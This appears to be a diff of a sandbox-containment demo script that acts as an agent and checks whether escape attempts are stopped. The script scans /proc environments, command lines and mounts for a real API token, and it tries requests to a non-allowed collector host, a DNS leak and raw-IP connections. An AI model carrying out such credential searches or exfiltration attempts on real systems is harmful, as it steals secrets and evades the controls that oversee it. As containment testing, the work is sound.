@@ -3,8 +3,8 @@
 // Plain JavaScript without dependencies: it is copied into the agent image and runs there as any agent would. It prints one JSON
 // line a step on stdout; demo/run.ts joins these with the audit log and with what the service really received.
 //
-// Environment: DEMO_API (origin of the API), DEMO_API_TOKEN (our placeholder for its token), DEMO_TOKEN_SHA256 (digest of the real
-// token, so that the search can recognise it), DEMO_HOST_TARGETS (`ip:port,…` where the host really listens).
+// Environment: DEMO_API (origin of the API) and DEMO_API_TOKEN (our placeholder for its token). First argument: JSON of
+// {tokenSha256, hostTargets}: the digest by which the search recognises the real token, and `ip:port` where the host really listens.
 import { execFile } from 'node:child_process';
 import { createHash, randomBytes } from 'node:crypto';
 import { Resolver } from 'node:dns/promises';
@@ -17,6 +17,7 @@ import { promisify } from 'node:util';
 const run = promisify(execFile);
 const api = process.env.DEMO_API;
 const placeholder = process.env.DEMO_API_TOKEN ?? '';
+const { tokenSha256 = '', hostTargets = [] } = JSON.parse(process.argv[2] ?? '{}');
 const WAIT_MS = 5_000;
 
 /** outcome: `through` when the agent got what it asked for, `stopped` otherwise. */
@@ -46,7 +47,7 @@ function connect(step, host, port) {
     const socket = net.connect({ host, port, timeout: WAIT_MS });
     const end = (outcome, detail) => {
       socket.destroy();
-      report(step, 'stopped', outcome, detail, { host });
+      report(step, 'stopped', outcome, detail);
       resolve();
     };
     socket.on('connect', () => end('through', `connected to ${host}:${port}`));
@@ -89,7 +90,6 @@ async function leakByDns() {
 
 /** Everything this user can read that could hold the real token: environments, command lines, mounts, files of the system. */
 async function searchForToken() {
-  const wanted = process.env.DEMO_TOKEN_SHA256;
   const places = ['/proc/self/environ', '/proc/mounts', '/etc/passwd'];
   for (const pid of (await readdir('/proc')).filter((name) => /^\d+$/.test(name))) {
     places.push(`/proc/${pid}/environ`, `/proc/${pid}/cmdline`, `/proc/${pid}/mountinfo`);
@@ -113,7 +113,7 @@ async function searchForToken() {
     const text = await readFile(place, 'latin1').catch(() => '');
     if (text !== '') read += 1;
     for (const [candidate] of text.matchAll(/demo_[A-Za-z0-9]{40}/g)) {
-      if (createHash('sha256').update(candidate).digest('hex') === wanted) found = place;
+      if (createHash('sha256').update(candidate).digest('hex') === tokenSha256) found = place;
     }
   }
   const detail = found ? `found in ${found}` : `not in any of ${read} readable places`;
@@ -140,7 +140,7 @@ await request('a host that is not in the list', 'stopped', `https://collector.ex
 await leakByDns();
 await request('a raw IP address', 'stopped', 'https://198.51.100.7/');
 await connect('a raw IP address, another port', '198.51.100.7', 8443);
-for (const target of (process.env.DEMO_HOST_TARGETS ?? '').split(',').filter(Boolean)) {
+for (const target of hostTargets) {
   const at = target.lastIndexOf(':');
   await connect(`the host at ${target}`, target.slice(0, at), Number(target.slice(at + 1)));
   await request(`the host at ${target}, asked of the proxy`, 'stopped', `http://${target}/`);
